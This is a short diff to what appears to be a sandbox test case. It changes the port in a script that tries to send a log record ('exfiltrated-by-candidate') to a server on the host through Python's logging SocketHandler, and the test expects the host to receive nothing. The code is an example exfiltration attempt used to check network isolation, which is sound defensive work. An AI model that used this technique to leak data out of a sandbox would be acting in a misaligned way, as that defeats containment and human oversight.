@@ -1,4 +1,4 @@
-# attack: send data to a server on the host's 127.0.0.1:47391 (logging's socket handler)
+# attack: send data to a server on the host's 127.0.0.1:28431 (logging's socket handler)
 # expect: ok (the run finishes; the host server receives nothing)
 import logging
 import logging.handlers
@@ -7,7 +7,7 @@ import torch
 
 import harness
 
-handler = logging.handlers.SocketHandler("127.0.0.1", 47391)
+handler = logging.handlers.SocketHandler("127.0.0.1", 28431)
 handler.closeOnError = True
 record = logging.makeLogRecord({"msg": "exfiltrated-by-candidate"})
 handler.emit(record)
